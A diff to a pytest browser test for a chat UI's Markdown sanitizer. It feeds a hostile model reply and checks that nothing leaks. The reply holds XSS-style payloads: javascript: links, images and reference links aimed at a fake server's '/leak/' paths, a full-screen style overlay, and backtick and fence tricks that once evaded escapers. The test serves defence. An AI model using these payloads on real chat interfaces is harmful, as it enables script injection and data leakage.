@@ -27,6 +27,7 @@ from pathlib import Path
 import pytest
 
 from localpaged.api.guard import CSP
+from localpaged.ui.markdown import ELEMENTS
 
 pytestmark = pytest.mark.slow
 
@@ -39,10 +40,41 @@ BROWSER_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--d
                 "--disable-component-update", "--disable-sync"]
 
 
+OVERLAY = '<b style="position:fixed;inset:0;background:red">'
+
+
 def _reply(base: str) -> str:
+    """Each construct that once got HTML past a Markdown escaper onto the page: a fence whose
+    info string holds a backtick, code spans of unequal backtick runs, a fence indented in a
+    list item, reference definitions with `\\]` in the label (a javascript: and a relative
+    /gradio_api/file= destination); raw tags, an image and links; highlighted code."""
     return (f"Here you go ![secret chart]({base}/leak/md-image.png?q=the+secret) and "
             f'<img src="{base}/leak/html-img.png"> then [press me](javascript:window.__pwned=1) '
-            f"or [the docs]({base}/leak/link) bye")
+            f"or [the docs]({base}/leak/link) and {OVERLAY}overlay</b>\n\n"
+            f'``x` <img src="{base}/leak/code-img.png">`` `\n\n'
+            f"- item\n\n      ```\n  {OVERLAY}list-fence</b>\n  ```\n"
+            f'<img src="{base}/leak/list-img.png">\n\n'
+            f"[a\\]]: javascript:window.__pwned=3\n\n"
+            f"[b\\]]: /gradio_api/file={base}/leak/file-link\n\n"
+            f"[ref one][a\\]] [ref two][b\\]] ![ref img][b\\]]\n\n"
+            "```python\nprint('<b>highlighted</b>')\n```\n\n"
+            f"```x`\n{OVERLAY}fence-overlay</b>\n```\n\nbye")       # the last ``` opens a fence
+
+
+# What the chat's message bodies may hold (the server's allow-list: the browser adds nothing),
+# and what a script in the page collects from them: [tag, [attribute names]] per element.
+SHOWN_ATTRIBUTES = {"href", "target", "rel", "class", "start"}
+BODIES = "#chat0 [data-testid=bot] .md, #chat0 [data-testid=user] .md"
+MESSAGE_ELEMENTS = f"""() => [...document.querySelectorAll('{BODIES}')].flatMap(
+    b => [...b.querySelectorAll('*')].map(e => [e.tagName.toLowerCase(),
+                                                [...e.attributes].map(a => a.name)]))"""
+MESSAGES_HTML = f"""() => [...document.querySelectorAll('{BODIES}')].map(b => b.innerHTML)
+    .join('\\n<!-- next message -->\\n')"""
+# Whether anything in the page is fixed over the whole viewport (the overlay's aim).
+OVERLAY_ON_TOP = """() => [...document.querySelectorAll('body *')].some(e => {
+    const s = getComputedStyle(e), r = e.getBoundingClientRect();
+    return s.position === 'fixed' && r.width >= innerWidth * .9 && r.height >= innerHeight * .9
+        && s.visibility !== 'hidden' && s.display !== 'none' && e.innerText.includes('overlay'); })"""
 
 
 class FakeOpenAI(BaseHTTPRequestHandler):
@@ -176,6 +208,16 @@ def test_a_hostile_reply_causes_no_request_and_no_script(fake, app_url):
                 {"noopener", "noreferrer"}, hrefs
             imgs = chat.locator("img").evaluate_all("is => is.map(i => i.getAttribute('src'))")
             assert not [s for s in imgs if s and fake.base in s], imgs
+            (ARTIFACTS / "untrusted-messages.html").write_text(page.evaluate(MESSAGES_HTML))
+            elements = page.evaluate(MESSAGE_ELEMENTS)
+            assert len(elements) > 20, elements            # the reply's markup is there
+            outside = [e for e in elements if e[0] not in ELEMENTS
+                       or set(e[1]) - SHOWN_ATTRIBUTES]
+            assert not outside, outside
+            assert not [e for e in elements if "style" in e[1] or e[0] == "img"], elements
+            assert {"pre", "code", "span", "ul", "a", "sub"} <= {e[0] for e in elements}
+            assert "overlay" in text and OVERLAY in text      # the tag itself shows as text
+            assert not page.evaluate(OVERLAY_ON_TOP)
             assert page.evaluate("() => window.__pwned") is None
         finally:
             browser.close()
